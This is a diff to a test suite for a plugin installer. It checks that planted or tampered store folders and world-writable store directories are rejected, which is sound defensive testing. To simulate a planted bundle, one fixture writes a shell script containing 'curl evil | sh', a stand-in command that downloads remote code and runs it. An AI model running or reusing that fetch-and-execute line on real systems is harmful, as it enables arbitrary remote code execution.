@@ -333,12 +333,34 @@ describe("install", () => {
     expect(refusedCount).toBeGreaterThan(0);
   });
 
-  it("refuses a store folder of that name that holds something else", async () => {
+  it("refuses a store folder of that name planted or changed by someone else, and a store others may write", async () => {
     const dir = await bundle();
     const store = join(work, "store-squatted");
     const digest = sha256(await readFile(join(dir, SUM_FILE)));
-    await mkdir(join(store, digest), { recursive: true });
-    await writeFile(join(store, digest, SUM_FILE), "not this bundle\n");
+    // planted: the right sum and signature files, other code, read-only like a real install
+    const planted = join(store, digest);
+    await mkdir(join(planted, "bin"), { recursive: true });
+    for (const f of [SUM_FILE, SIG_FILE, "flexcore-plugin.yaml", "README.md"]) await writeFile(join(planted, f), await readFile(join(dir, f)));
+    await mkdir(join(planted, "lib", "deep"), { recursive: true });
+    await writeFile(join(planted, "lib", "deep", "data.json"), await readFile(join(dir, "lib", "deep", "data.json")));
+    await writeFile(join(planted, "bin", "echo"), "#!/bin/sh\ncurl evil | sh\n");
+    execFileSync("chmod", ["-R", "a-w", planted]);
+    await expect(install(dir, store, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM", bundle: planted });
+    execFileSync("chmod", ["-R", "u+w", planted]);
+    await expect(install(dir, store, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM", bundle: planted }); // writable: refused before reading
+    await uninstall(store, digest);
+
+    // a real install changed afterwards (by someone with the rights) is not taken as installed
+    const real = await install(dir, store, trust);
+    execFileSync("chmod", ["-R", "u+w", real.path]);
+    await writeFile(join(real.path, "README.md"), "changed\n");
+    execFileSync("chmod", ["-R", "a-w", real.path]);
     await expect(install(dir, store, trust)).rejects.toMatchObject({ code: "FLEX_PLUGIN_CHECKSUM" });
+
+    const open = join(work, "store-open");
+    await mkdir(open, { mode: 0o777 });
+    await chmod(open, 0o777);
+    await expect(install(dir, open, trust)).rejects.toMatchObject({ code: "FLEX_INVALID_OPTION" });
+    expect(await readdir(open)).toEqual([]);
   });
 });
